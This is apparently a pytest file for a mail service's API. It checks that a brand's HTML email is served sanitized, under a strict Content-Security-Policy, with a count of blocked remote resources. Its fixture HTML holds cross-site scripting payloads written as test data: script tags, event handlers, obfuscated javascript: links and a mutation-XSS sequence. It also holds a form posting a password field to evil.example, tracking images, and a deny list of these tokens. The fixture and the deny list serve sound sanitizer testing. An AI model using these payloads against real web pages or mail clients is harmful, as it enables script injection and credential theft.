"""A brand's HTML mail as the person's web app shows it: GET
/v1/me/messages/{id}/html serves the HTML part sanitized (no script,
handler, form, embedding or remote load survives) with a
Content-Security-Policy of its own, and the message's JSON says how many
remote resources were blocked. Others' ids, text-only mail, a refusal and
a message sent over HTTP have no HTML to show (404)."""
from conftest import assert_problem, assert_schema
from test_reading import deliver, mail, newest  # noqa: F401 (a fixture)

CSP = ("default-src 'none'; style-src 'unsafe-inline'; "
       "sandbox allow-popups allow-popups-to-escape-sandbox; "
       "frame-ancestors 'self'; base-uri 'none'; form-action 'none'")

# Every remote load below is counted once: the style sheet link, the
# style element's two url()s, the refresh, the body's background, the
# heading's background image, two images, the iframe, SVG's image and
# the video's poster.
HTML = "\r\n".join((  # lines of mail stay short
    '<html><head>',
    '<link rel="stylesheet" href="https://track.example/s.css">',
    '<style>@import url(https://track.example/i.css); ',
    'body{background:url(https://track.example/b.png)}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<script>alert(1)</script>',
    '</head>',
    '<body onload="alert(2)" background="https://track.example/bg.png">',
    '<h1 style="color: #c00; background-image: ',
    'url(https://track.example/h.png)">Winter sale</h1>',
    '<p>Boots <b>half</b> price. ',
    '<a href="https://shop.example/sale" onclick="alert(3)">Shop</a> ',
    '<a href="javascript:alert(4)">Click</a> ',
    '<a href="jav&#x09;ascript:alert(5)">Tab</a></p>',
    '<img src="https://track.example/open.gif?u=ana" width="1" height="1">',
    '<img src="https://cdn.example/hero.jpg" alt="Our boots">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<form action="https://evil.example/steal"><input name="pw">',
    '<button>Go</button></form>',
    '<svg onload="alert(6)"><image href="https://track.example/svg.png"/>',
    '</svg>',
    '<video poster="https://track.example/poster.jpg"></video>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>',
    '</math>',
    '</body></html>'))
BLOCKED = 11

MIXED = (
    "From: news@acme.example\r\nTo: {alias}\r\nSubject: Sale\r\n"
    "Message-ID: <{mid}@acme.example>\r\nCMR-Topic: orders\r\n"
    "MIME-Version: 1.0\r\n"
    "Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n"
    "--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
    "Winter sale: boots half price.\r\n"
    "--alt\r\nContent-Type: text/html; charset=utf-8\r\n"
    "Content-Transfer-Encoding: 8bit\r\n\r\n"
    + HTML.replace("{", "{{").replace("}", "}}") + "\r\n"
    "--alt--\r\n")

TEXT_ONLY = (
    "From: news@acme.example\r\nTo: {alias}\r\nSubject: Plain\r\n"
    "Message-ID: <{mid}@acme.example>\r\nCMR-Topic: orders\r\n"
    "Content-Type: text/plain; charset=utf-8\r\n\r\n"
    "Just text.\r\n")


def test_the_html_is_sanitized_and_walled(mail):
    api, ana, bea, acme, rel, client, _ = mail
    assert deliver(client, rel, MIXED)[0].startswith("250")
    msg = newest(ana)
    m = ana.ok("GET", f"/v1/me/messages/{msg}")
    assert_schema(m, "MessageDetail")
    assert m["text"] == "Winter sale: boots half price."
    assert m["html_href"] == f"/v1/me/messages/{msg}/html"
    assert m["remote_blocked"] == BLOCKED

    r = ana.get(m["html_href"])
    assert r.status == 200, r
    h = r.headers
    assert h["Content-Type"] == "text/html; charset=utf-8"
    assert h.get_all("Content-Security-Policy") == [CSP]
    assert h.get_all("Cache-Control") == ["private, no-store"]
    assert h["X-Content-Type-Options"] == "nosniff"
    assert h["Referrer-Policy"] == "no-referrer"
    body = r.body.decode("utf-8")
    assert body.startswith('<!doctype html><html><head>'
                           '<meta charset="utf-8">'), body
    low = body.lower()
    for bad in ("<script", "alert", "javascript", "onload", "onclick",
                "onerror", "track.example", "evil.example", "<iframe",
                "<form", "<input", "<button", "<img", "<svg", "<math",
                "<style", "<link", "<base", "http-equiv", "<video",
                "src=", "background=", "url("):
        assert bad not in low, (bad, body)
    assert "<h1 style=\"color: #c00;\">Winter sale</h1>" in body, body
    assert ('<a href="https://shop.example/sale" rel="noopener noreferrer" '
            'target="_blank">Shop</a>') in body, body
    assert "Click" in body and "Tab" in body and "Our boots" in body


def test_a_session_cookie_reads_it_too(mail):
    api, ana, bea, acme, rel, client, _ = mail
    assert deliver(client, rel, MIXED)[0].startswith("250")
    msg = newest(ana)
    r = api.call("POST", "/v1/session", {"handle": "ana",
                                         "password": ana.password})
    assert r.status == 204, r
    cookie = r.headers["Set-Cookie"].split(";")[0]
    r = api.call("GET", f"/v1/me/messages/{msg}/html",
                 headers={"Cookie": cookie})
    assert r.status == 200, r
    assert b"Winter sale" in r.body


def test_no_html_to_show_is_a_404(mail):
    api, ana, bea, acme, rel, client, _ = mail
    assert deliver(client, rel, MIXED)[0].startswith("250")
    html = newest(ana)
    # Another person's id, a brand, a malformed id.
    assert_problem(bea.get(f"/v1/me/messages/{html}/html"), 404)
    assert_problem(acme.get(f"/v1/me/messages/{html}/html"), 403)
    assert_problem(ana.get("/v1/me/messages/msg_nope/html"), 400)
    # Text-only mail.
    assert deliver(client, rel, TEXT_ONLY)[0].startswith("250")
    text = newest(ana)
    m = ana.ok("GET", f"/v1/me/messages/{text}")
    assert "html_href" not in m and "remote_blocked" not in m
    assert_problem(ana.get(f"/v1/me/messages/{text}/html"), 404)
    # A brand's message sent over HTTP has no HTML part.
    sent = acme.send(rel.id, topic="orders", subject="Shipped",
                     body="<b>not html</b>").json()["id"]
    m = ana.ok("GET", f"/v1/me/messages/{sent}")
    assert "html_href" not in m and "remote_blocked" not in m
    assert_problem(ana.get(f"/v1/me/messages/{sent}/html"), 404)
    # A refusal keeps no body.
    leak = MIXED.replace("news@acme.example", "spam@evil.example")
    assert deliver(client, rel, leak, frm="spam@evil.example")[0].startswith(
        "550")
    refused = newest(ana, "decision=refuse")
    assert_problem(ana.get(f"/v1/me/messages/{refused}/html"), 404)
    # A removed message.
    assert ana.delete(f"/v1/me/messages/{html}").status == 204
    assert_problem(ana.get(f"/v1/me/messages/{html}/html"), 404)
